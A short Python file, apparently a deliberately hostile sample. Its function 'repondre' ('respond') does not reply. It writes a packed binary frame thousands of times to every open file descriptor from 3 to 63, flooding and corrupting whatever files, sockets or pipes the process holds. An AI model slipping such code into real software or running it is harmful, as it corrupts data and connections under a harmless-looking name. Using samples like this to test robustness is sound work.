"""Thousands of small frames, that nobody asked for."""

import os
import struct


def repondre(*arguments):
    trame = struct.pack("<IQB", 1, 0, 19) + b"N"
    for fil in range(3, 64):
        try:
            os.write(fil, trame * 4000)
        except OSError:
            continue
    return None
